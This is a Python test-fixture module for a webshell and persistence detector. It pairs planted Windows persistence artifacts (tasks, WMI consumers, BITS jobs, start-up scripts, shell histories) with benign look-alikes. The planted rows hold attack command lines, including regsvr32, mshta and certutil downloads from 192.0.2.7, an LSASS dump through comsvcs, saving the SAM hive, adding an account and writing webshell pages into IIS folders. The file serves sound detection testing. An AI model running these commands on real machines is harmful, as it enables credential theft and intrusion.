"""Rows of tasks, WMI, BITS, start-up folders, and of witnesses besides pages and logs."""

from __future__ import annotations

from functools import partial
from typing import Final

from tests.builders.failed_requests import failed_request
from tests.builders.inert import live
from tests.builders.machine_records import bits_queue, consumer_of, wmi_instance, wmi_repository
from tests.builders.shortcuts import shortcut
from tests.builders.tasks import job_file, task_file
from tests.persistence.plants import FRAMEWORK, Change, Plant, added, honest, plant
from webshellhunt.binaries.compiled_pages import directory_hash
from webshellhunt.model.verdict import Disposition

TASKS: Final = "C/Windows/System32/Tasks"
OF_WINDOWS: Final = f"{TASKS}/Microsoft/Windows"
_NGEN: Final = "{84F0FAE1-C27B-4F6F-807B-28CF6F96287D}"
_UNKNOWN: Final = "{5B1C9D2E-7A44-4F0B-9E21-0C3D5A6B7F80}"
_EVERY_5_MINUTES: Final = "<TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition></TimeTrigger>"
_DAILY: Final = "<CalendarTrigger><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>"
_POWERSHELL: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_ENCODED: Final = "-NoP -W Hidden -e·nc SQBuAGUAcgB0ACAAdABlAHgAdAAgAG8AbgBsAHkALgAgAEkAbgBlAHIAdAA="


def task(path: str, command: str = "", arguments: str = "", **more: str) -> Change:
    """Return the change that adds a task."""
    return added(f"{TASKS}/{path}", partial(task_file, command, arguments, **more))


def _of_windows(path: str, command: str = "", arguments: str = "", **more: str) -> Change:
    return task(f"Microsoft/Windows/{path}", command, arguments, **more)


_ODD_TASKS = {
    "public folder": (r"C:\Users\Public\u.exe", ""),
    "ProgramData itself": (r"C:\ProgramData\svc.exe", "-k"),
    "web folder": (r"C:\inetpub\wwwroot\aspnet_client\w.exe", ""),
    "folder of IIS": (r"C:\Windows\System32\inetsrv\iisw.exe", ""),
    "encoded command": (_POWERSHELL, _ENCODED),
    "encoded command by cmd": ("cmd.exe", f"/c start /b powershell {_ENCODED}"),
    "script in temporary folder": (_POWERSHELL, r"-ep bypass -f C:\Windows\Temp\a.ps1"),
    "script host in public folder": ("wscript.exe", r"//b C:\Users\Public\a.vbs"),
    "rundll32 of System32": (r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\wshelp.dll,Start"),
    "rundll32 of ProgramData": ("rundll32", r"C:\ProgramData\Vendor\a.dat,Start"),
    "regsvr32 of a server": ("regsvr32.exe", "/s /n /u /i:ht·tp://192.0.2.7/a.sct scrobj.dll"),
    "mshta of a server": ("mshta.exe", "ht·tp://192.0.2.7/a.hta"),
    "msbuild of a project": (
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
        r"C:\Windows\Temp\a.csproj",
    ),
    "installutil": (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe", r"/U C:\Tools\a.dll"),
    "certutil of a server": ("certutil.exe", r"-url·cache -split -f ht·tp://192.0.2.7/a.txt C:\Tools\a.exe"),
    "share by address": (r"\\192.0.2.7\c$\a.exe", ""),
    "profile as SYSTEM": (r"C:\Users\exadmin\AppData\Roaming\a.exe", ""),
    "script in System32": (_POWERSHELL, r"-ep bypass -f C:\Windows\System32\wupd.ps1"),
    "port proxy": ("netsh.exe", "interface port·proxy add v4tov4 listenport=8443 connectport=3389 connectaddress=192.0.2.7"),
    "name of a service of Windows": (r"C:\Windows\svchost.exe", "-k netsvcs"),
    "name of a service of Windows in Program Files": (r"C:\Program Files\Common Files\spoolsv.exe", ""),
    "product in ProgramData at each start": (r"C:\ProgramData\Vendor\a.exe", ""),
    "account": ("net.exe", "us·er support Passw0rd /add"),
    "a page written": (
        "cmd.exe",
        r"/c copy C:\Tools\a.txt C:\PROGRA~1\Microsoft\EXCHAN~1\V15\FrontEnd\HttpProxy\owa\auth\e.aspx",
    ),
    "page written by curl": ("curl.exe", r"-o C:\inetpub\wwwroot\aspnet_client\x.aspx ht·tp://192.0.2.7/x"),
    "page written by xcopy": ("xcopy.exe", r"C:\Windows\Temp\a.aspx C:\inetpub\wwwroot /y"),
    "page written by copy": ("cmd", r"/c copy /y D:\Tools\a.txt C:\inetpub\wwwroot\e.aspx"),
    "page written by robocopy": ("robocopy", r"C:\Tools C:\inetpub\wwwroot a.ashx /np"),
    "page written by PowerShell": (
        _POWERSHELL,
        r"-c Invoke-WebRequest ht·tp://192.0.2.7/x -OutFile 'C:\inetpub\wwwroot\x.aspx'",
    ),
    "page written by Copy-Item": (_POWERSHELL, r"-c Copy-Item -Destination C:\inetpub\wwwroot -Path D:\Tools\a.asmx"),
    "page written by BITS": (_POWERSHELL, r"-c Start-BitsTransfer ht·tp://192.0.2.7/x C:\inetpub\wwwroot\x.aspx"),
    "page written by echo": ("cmd", r"/c type D:\Tools\a.txt > C:\inetpub\wwwroot\aspnet_client\e.aspx"),
    "configuration written": (r"C:\Windows\System32\inetsrv\appcmd.exe", "add module /name:W /type:W.M,W"),
}  # fmt: skip

_HONEST_COPIES = {
    "backup of a site": ("robocopy.exe", r"C:\inetpub\wwwroot D:\Backup\wwwroot /mir"),
    "backup of a page": ("cmd.exe", r"/c copy /y C:\inetpub\wwwroot\default.aspx D:\Backup\inetpub\wwwroot"),
    "backup of a configuration": ("cmd.exe", r"/c xcopy C:\inetpub\wwwroot\web.config D:\Backup\ /y"),
    "backup of libraries": (_POWERSHELL, r"-c Copy-Item C:\inetpub\wwwroot\bin\a.dll D:\Backup\a.dll"),
    "deployment to another folder": ("xcopy.exe", r"D:\Build\a.aspx D:\Sites\shop /y"),
    "deployment of a folder": ("robocopy.exe", r"D:\Build\shop C:\inetpub\wwwroot\shop *.aspx /mir"),
    "check of health": ("curl.exe", "-s -o NUL https://mail.contoso.example/owa/healthcheck.htm"),
    "check of a page": (
        "curl.exe",
        r"-k https://mail.contoso.example/owa/auth/logon.aspx -o C:\Windows\Temp\health.txt",
    ),
    "state for monitoring": (
        _POWERSHELL,
        r"-c Invoke-WebRequest https://localhost/a.aspx -OutFile C:\inetpub\wwwroot\state.html",
    ),
    "logs are moved": ("cmd.exe", r"/c move C:\inetpub\logs\LogFiles\W3SVC1\a.log D:\Logs"),
}  # fmt: skip

REPOSITORY: Final = "C/Windows/System32/wbem/Repository/OBJECTS.DATA"
QUEUE: Final = "C/ProgramData/Microsoft/Network/Downloader/qmgr.db"


def consumer(kind: str, *texts: str) -> Change:
    """Return the change that adds a repository of WMI with one consumer."""
    return added(REPOSITORY, partial(consumer_of, kind, "Updater", *texts))


def _mof(kind: str, value: str) -> Change:
    text = f'instance of {kind} as $Cons\n{{\n    Name = "Updater";\n    {value};\n}};\n'
    return added("C/Windows/System32/wbem/AutoRecover/4A1F.mof", lambda: live(text).encode("utf-16"))


_WMI: tuple[Plant, ...] = (
    plant(43, "WMI: command of a MOF file", "WSH4084", _mof("CommandLineEventConsumer", f'CommandLineTemplate = "powershell.exe {_ENCODED}"')),
    plant(43, "WMI: program of a MOF file", "WSH4084", _mof("CommandLineEventConsumer", r'CommandLineTemplate = "C:\\Windows\\System32\\srvchk.exe"')),
    plant(43, "WMI: script of a MOF file", "WSH4084", _mof("ActiveScriptEventConsumer", 'ScriptText = "inert text"')),
    honest(43, "WMI: MOF file of a log", _mof("NTEventLogEventConsumer", "Category = 0")),
    plant(43, "WMI: encoded command", "WSH4081", consumer("CommandLineEventConsumer", f"powershell.exe {_ENCODED}")),
    plant(43, "WMI: program in public folder", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Users\Public\u.exe")),
    plant(43, "WMI: program of Windows", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Windows\System32\srvchk.exe -k")),
    plant(43, "WMI: text in two bytes", "WSH4081", consumer("CommandLineEventConsumer", "C:\\Tools\\\u00fcber\u017e.exe -k")),
    plant(43, "WMI: script", "WSH4081", consumer("ActiveScriptEventConsumer", "VBScript", 'Set s = Create·Object("WScript.Shell")\ns.Run "a.exe"')),
    plant(43, "WMI: page written", "WSH4081", consumer("LogFileEventConsumer", r"C:\inetpub\wwwroot\aspnet_client\e.aspx", "inert text")),
    plant(43, "WMI: stock name, other command", "WSH4081", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\Tools\a.exe"))),
    plant(43, "WMI: folder FS", "WSH4081", added(REPOSITORY.replace("OBJECTS", "FS/OBJECTS"), partial(consumer_of, "CommandLineEventConsumer", "Updater", "a.exe"))),
    plant(
        43,
        "WMI: consumer without binding",
        "WSH4081",
        added(REPOSITORY, lambda: wmi_repository(wmi_instance("CommandLineEventConsumer", "a.exe", "Updater"))),
        least=Disposition.UNEXPLAINED,
        why="it does not run, or was removed",
    ),
    honest(43, "WMI: stock", added(REPOSITORY, wmi_repository)),
    honest(43, "WMI: consumer of old Windows", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\tools\kernrate", "cscript KernCap.vbs"))),
    honest(43, "WMI: a log is written", consumer("LogFileEventConsumer", r"C:\Logs\events.log", "%TargetEvent%")),
    plant(42, "BITS: regsvr32 of a server", "WSH4082", added(QUEUE, partial(bits_queue, "backup", r"C:\Windows\System32\regsvr32.exe", "/s /n /u /i:ht·tp://192.0.2.7/a.sct scrobj.dll"))),
    plant(42, "BITS: program", "WSH4082", added(QUEUE.replace(".db", "0.dat"), partial(bits_queue, "backup", r"C:\Windows\System32\srvchk.exe", "NULL"))),
    honest(42, "BITS: download", added(QUEUE, partial(bits_queue, "Font Download"))),
)  # fmt: skip

ALL_USERS: Final = "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
ONE_USER: Final = "C/Users/exadmin/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
POLICY: Final = "C/Windows/System32/GroupPolicy/Machine/Scripts"


def _policy(*entries: str) -> Change:
    lines = "\r\n".join(("[Startup]", *entries))
    return added(f"{POLICY}/scripts.ini", lambda: live(lines).encode("utf-16"))


_STARTS: tuple[Plant, ...] = (
    plant(42, "start-up: batch file, encoded", "WSH4083", added(f"{ALL_USERS}/update.bat", f"@echo off\r\npowershell {_ENCODED}\r\n")),
    plant(42, "start-up: batch file, program in ProgramData", "WSH4083", added(f"{ALL_USERS}/update.cmd", '@echo off\r\nstart "" /b C:\\ProgramData\\svc\\a.exe\r\n')),
    plant(42, "start-up: script", "WSH4083", added(f"{ONE_USER}/update.vbs", "' inert text\r\n")),
    plant(42, "start-up: program", "WSH4083", added(f"{ONE_USER}/update.exe", b"MZ inert")),
    plant(42, "start-up: PowerShell by a shortcut", "WSH4083", added(f"{ALL_USERS}/Update.lnk", partial(shortcut, _POWERSHELL, "-w hidden -f C:\\Tools\\a.ps1"))),
    plant(42, "start-up: program in public folder by a shortcut", "WSH4083", added(f"{ONE_USER}/Update.lnk", partial(shortcut, r"%PUBLIC%\a.exe", variables=True))),
    plant(42, "start-up: rundll32 by a shortcut", "WSH4083", added(f"{ONE_USER}/Update.lnk", partial(shortcut, r"C:\Windows\System32\rundll32.exe", r"C:\ProgramData\a.dll,Run"))),
    plant(42, "policy: script in ProgramData", "WSH4083", _policy(r"0CmdLine=C:\ProgramData\a.bat", "0Parameters=")),
    plant(42, "policy: encoded command", "WSH4083", _policy(f"0CmdLine={_POWERSHELL}", f"0Parameters={_ENCODED}")),
    plant(42, "policy: batch file in its folder", "WSH4083", _policy("0CmdLine=update.bat", "0Parameters="), added(f"{POLICY}/Startup/update.bat", f"powershell {_ENCODED}\r\n")),
    plant(42, "set-up: command", "WSH4083", added("C/Windows/Setup/Scripts/SetupComplete.cmd", "start C:\\Users\\Public\\a.exe\r\n")),
    honest(42, "start-up: settings of the folder", added(f"{ALL_USERS}/desktop.ini", b"[.ShellClassInfo]\r\n")),
    honest(42, "start-up: product by a shortcut", added(f"{ALL_USERS}/Agent.lnk", partial(shortcut, r"C:\Program Files\Vendor\Agent\agent.exe", "/tray"))),
    honest(42, "start-up: BGInfo by a shortcut", added(f"{ALL_USERS}/BGInfo.lnk", partial(shortcut, r"C:\BGInfo\Bginfo.exe", r"C:\BGInfo\server.bgi /timer:0 /nolicprompt"))),
    honest(42, "start-up: batch file of an administrator", added(f"{ALL_USERS}/drives.bat", "net use X: \\\\files.contoso.example\\tools\r\n"), most=Disposition.UNEXPLAINED),
    honest(42, "policy: script of an administrator", _policy("0CmdLine=inventory.cmd", "0Parameters=/quiet"), most=Disposition.UNEXPLAINED),
    honest(42, "set-up: product", added("C/Windows/Setup/Scripts/SetupComplete.cmd", 'msiexec /i "C:\\Program Files\\Vendor\\a.msi" /qn\r\n')),
)  # fmt: skip

_PSREADLINE: Final = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
_OF_SYSTEM: Final = f"C/Windows/System32/config/systemprofile/{_PSREADLINE}"
_ADMIN: Final = f"C/Users/exadmin/{_PSREADLINE}"
_HISTORIES: tuple[Plant, ...] = (
    plant(54, "history: application pool", "WSH7232", added(f"C/Users/DefaultAppPool/{_PSREADLINE}", "whoami\n")),
    plant(54, "history: network service", "WSH7232", added(f"C/Windows/ServiceProfiles/NetworkService/{_PSREADLINE}", "dir\n")),
    plant(54, "history: SYSTEM, download", "WSH7232", added(_OF_SYSTEM, "dir\ni·ex (New-Object Net.WebClient).Download·String('ht·tp://192.0.2.7/a')\n")),
    plant(54, "history: SYSTEM, credentials", "WSH7232", added(_OF_SYSTEM, "reg sa·ve hklm\\s·am C:\\Tools\\s\n")),
    plant(54, "history: administrator, credentials", "WSH7232", added(_ADMIN, "rundll32 com·svcs.dll, Mini·Dump 620 C:\\Tools\\l.dmp full\n")),
    honest(54, "history: administrator", added(_ADMIN, "Get-Mailbox\nGet-ExchangeServer | fl\n")),
    honest(54, "history: administrator, installer", added(_ADMIN, "i·ex ((New-Object System.Net.WebClient).Download·String('https://community.chocolatey.org/install.ps1'))\n"), most=Disposition.UNEXPLAINED),
    honest(54, "history: SYSTEM by PsExec", added(_OF_SYSTEM, "whoami\nGet-Service\n"), most=Disposition.UNEXPLAINED),
)  # fmt: skip

_COMPILED: Final = f"{FRAMEWORK}/Temporary ASP.NET Files/owa/8f3a1c52/1b6de0aa"


def _marker(address: str) -> str:
    return f'<preserve resultType="3" virtualPath="{address}" assembly="App_Web_q3xk0v_d" type="ASP.x_aspx" />'


_COMPILED_PAGES: tuple[Plant, ...] = (
    plant(52, "compiled: marker of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/lang.aspx.{directory_hash('~/auth/lang')}.compiled", _marker("/owa/auth/lang/lang.aspx"))),
    plant(52, "compiled: assembly of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/App_Web_lang.aspx.{directory_hash('~/auth/lang')}.q3xk0v_d.dll", b"MZ inert")),
    plant(52, "compiled: assembly of another application", "WSH5020", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_x.aspx.{directory_hash('~/api/v2')}.q3xk0v_d.dll.delete", b"MZ inert")),
    honest(52, "compiled: sign-in page", added(f"{_COMPILED}/logon.aspx.{directory_hash('~/auth')}.compiled", _marker("/owa/auth/logon.aspx"))),
    honest(52, "compiled: page of ECP", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_editdag.aspx.{directory_hash('~/dbmgmt')}.q3xk0v_d.dll", b"MZ inert")),
    honest(52, "compiled: site of its own", added(f"{_COMPILED.replace('/owa/', '/shop/')}/App_Web_x.aspx.{directory_hash('~/admin')}.q3xk0v_d.dll", b"MZ inert")),
)  # fmt: skip

TRACE: Final = "C/inetpub/logs/FailedReqLogFiles/W3SVC1/fr000001.xml"
_TRACES: tuple[Plant, ...] = (
    plant(51, "failed request: code in its body", "WSH7233", added(TRACE, partial(failed_request, "https://mail.example:443/ecp/DDI/DDIService.svc/SetObject", body='{"a":"<scr·ipt runat=\\"server\\">"}'))),
    plant(51, "failed request: gadget in its body", "WSH7233", added(TRACE, partial(failed_request, "https://sp.example/_layouts/15/ToolPane.aspx", status=200, body="MSOTlPn_DWP=Excel·DataSet"))),
    plant(51, "failed request: page answered", "WSH7233", added(TRACE, partial(failed_request, "https://mail.example:443/owa/auth/e.aspx", status=200, body="a=1"))),
    honest(51, "failed request: sign-in", added(TRACE, partial(failed_request, "https://mail.example:443/owa/auth.owa", status=401, body="destination=x&username=a"))),
    honest(51, "failed request: service", added(TRACE, partial(failed_request, "https://mail.example:443/EWS/Exchange.asmx", body="<soap:Envelope><soap:Body /></soap:Envelope>"))),
)  # fmt: skip

_REPORT: Final = "C/ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_w3wp.exe_1_2_3/Report.wer"


def _crash(module: str) -> Change:
    text = f"AppPath=C:\\Windows\\System32\\inetsrv\\w3wp.exe\r\nLoadedModule[0]={module}\r\n"
    return added(_REPORT, text.encode("utf-16"))


_CRASHES: tuple[Plant, ...] = (
    plant(51, "crash report: library in temporary folder", "WSH7234", _crash(r"C:\Windows\Temp\a.dll")),
    honest(51, "crash report: library of Windows", _crash(r"C:\Windows\System32\inetsrv\iiscore.dll")),
)  # fmt: skip

PLANTS: tuple[Plant, ...] = (
    *_WMI,
    *_CRASHES,
    *_TRACES,
    *_COMPILED_PAGES,
    *_HISTORIES,
    *_STARTS,
    *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
    plant(
        42,
        "task: hidden in ProgramData",
        "WSH4018",
        task("Vendor Update", r"C:\ProgramData\Vendor\u.exe", settings="<Hidden>true</Hidden>"),
    ),
    plant(42, "task: of another width", "WSH4018", added("C/Windows/SysWOW64/Tasks/U", partial(task_file, *_ODD_TASKS["public folder"]))),
    plant(42, "task: old file", "WSH4018", added("C/Windows/Tasks/At1.job", partial(job_file, r"C:\PerfLogs\a.exe"))),
    plant(42, "task: name of Windows, PowerShell", "WSH4080", _of_windows("Defrag/ScheduledDefrag", _POWERSHELL, r"-f C:\Scripts\a.ps1")),
    plant(42, "task: name of Windows, program", "WSH4080", _of_windows("Chkdsk/ProactiveScan", r"C:\Program Files\Vendor\a.exe")),
    plant(42, "task: name of Windows, arguments", "WSH4080", _of_windows("Autochk/Proxy", r"%windir%\system32\rundll32.exe", "/d acproxy2.dll,Run")),
    plant(42, "task: name of Windows, class", "WSH4080", _of_windows("Registry/RegIdleBackup", class_id=_UNKNOWN)),
    plant(15, "task: NGEN with another class", "WSH4080", _of_windows(".NET Framework/.NET Framework NGEN v4.0.30319", class_id=_UNKNOWN)),
    plant(42, "task: among those of Windows, PowerShell", "WSH4080", _of_windows("WDI/SrvHost", _POWERSHELL, r"-f C:\Scripts\a.ps1")),
    plant(42, "task: among those of Windows, class", "WSH4080", _of_windows("Bluetooth/UpdateDeviceTask", class_id=_UNKNOWN)),
    plant(42, "task: among those of Windows, cmd", "WSH4080", _of_windows("SrvCheck", "cmd.exe", "/c start C:\\Tools\\a.exe", triggers=_EVERY_5_MINUTES)),
    plant(42, "task: unknown class", "WSH4080", task("Updater", class_id=_UNKNOWN)),
    plant(
        42,
        "task: among those of Windows, program",
        "WSH4080",
        _of_windows("SrvCheck", r"C:\Windows\System32\srvchk.exe"),
        least=Disposition.UNEXPLAINED,
        why="the table does not have the tasks of all features of Windows Server",
    ),
    honest(42, "task: updater in Program Files", task("GoogleUpdaterTaskSystem", r"C:\Program Files (x86)\Google\GoogleUpdater\updater.exe", "--wake --system")),
    honest(42, "task: service of Windows", task("Vendor", r"C:\Windows\SysWOW64\dllhost.exe", "/Processid:{1}")),
    honest(42, "task: known product in ProgramData", task("Dell Update", r"C:\ProgramData\Dell\UpdateService\a.exe")),
    honest(42, "task: stock, defragmentation", _of_windows("Defrag/ScheduledDefrag", r"%windir%\system32\defrag.exe", "-c -h -k -g -$")),
    honest(42, "task: stock, NGEN", _of_windows(".NET Framework/.NET Framework NGEN v4.0.30319", class_id=_NGEN, settings="<Hidden>true</Hidden>")),
    honest(42, "task: stock, rundll32", _of_windows("Autochk/Proxy", r"%windir%\system32\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations")),
    honest(42, "task: stock, with quotes and drive", _of_windows("WindowsUpdate/Scheduled Start", r'"C:\Windows\system32\sc.exe"', "start wuauserv")),
    honest(42, "task: stock, script host", _of_windows("Server Manager/CleanupOldPerfLogs", r"%systemroot%\system32\cscript.exe", r"/B /nologo %systemroot%\system32\calluxxprovider.vbs $(Arg0) $(Arg1) $(Arg2)")),
    honest(42, "task: stock, class unknown to the table", _of_windows("Deduplication/BackgroundOptimization", class_id=_UNKNOWN)),
    honest(42, "task: stock, Defender", _of_windows("Windows Defender/Windows Defender Cleanup", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup")),
    honest(42, "task: backup of Windows Server", _of_windows("Backup/Microsoft-Windows-WindowsBackup", r"%windir%\System32\wbadmin.exe", "start backup -templateId:{7ebb4591-9c90-453e-b961-1607a5656f03} -quiet")),
    honest(42, "task: logs of IIS are cleaned by PowerShell", task("Clean logs", "powershell.exe", r'-ExecutionPolicy Bypass -File "C:\Scripts\Clean-Logs.ps1" -Path C:\inetpub\logs\LogFiles -Days 30')),
    honest(42, "task: logs of IIS are cleaned by forfiles", task("Clean logs", "forfiles.exe", r'/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"')),
    *(honest(42, f"task: {name}", task("Site", *words)) for name, words in _HONEST_COPIES.items()),
    honest(42, "task: temporary files are removed", task("Clean temp", "powershell.exe", r'-NoProfile -Command "Get-ChildItem C:\Windows\Temp -Recurse | Remove-Item -Force"')),
    honest(42, "task: report of Exchange", task("Mailbox report", _POWERSHELL, r'''-NonInteractive -WindowStyle Hidden -Command ". 'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto; C:\Scripts\Report.ps1"''')),
    honest(42, "task: a service is started anew", task("Restart transport", "net.exe", "start MSExchangeTransport")),
    honest(42, "task: job of PowerShell", _of_windows("PowerShell/ScheduledJobs/Report", "powershell.exe", r'''-NoLogo -NonInteractive -WindowStyle Hidden -Command "Import-Module PSScheduledJob; $jobDef = [Microsoft.PowerShell.ScheduledJob.ScheduledJobDefinition]::LoadFromStore('Report', 'C:\Users\exadmin\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs'); $jobDef.Run()"''')),
    honest(42, "task: collector of performance data", _of_windows("PLA/Exchange", r"C:\Windows\system32\rundll32.exe", r'C:\Windows\system32\pla.dll,PlaHost "Exchange" "$(Arg0)"')),
    honest(42, "task: OneDrive of a user", task("OneDrive Standalone Update Task-S-1-5-21-1-2-3-1000", r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", account="S-1-5-21-1-2-3-1000")),
    honest(42, "task: library of a printer", task("Printer", "rundll32.exe", r'"C:\Program Files\HP\HP Printer\Bin\HPStatus.dll",Run')),
    honest(42, "task: share of the domain", task("Inventory", r"\\contoso.example\netlogon\inventory.exe"), most=Disposition.UNEXPLAINED),
    honest(42, "task: product in ProgramData", task("Vendor", r"C:\ProgramData\Vendor\Agent\u.exe", "-s", triggers=_DAILY), most=Disposition.UNEXPLAINED),
)  # fmt: skip
